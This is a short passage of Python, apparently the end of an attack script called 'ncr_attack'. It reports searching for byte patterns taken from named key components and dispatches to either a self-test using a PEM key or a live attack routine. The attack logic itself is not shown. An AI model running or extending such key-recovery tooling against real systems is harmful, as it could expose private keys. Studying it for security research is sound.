        print("attacker: searching for %d patterns (first 16 bytes of %s, "
              "each big- and little-endian)" % (
                  len(pats), ", ".join(comps)), flush=True)
        if args.self_test:
            return run_self_test(args, S, pem)
        return run_attack(args, S)
    except SystemExit2 as e:
        print("ncr_attack: %s" % e, file=sys.stderr)
        return 2


if __name__ == "__main__":
    sys.exit(main())
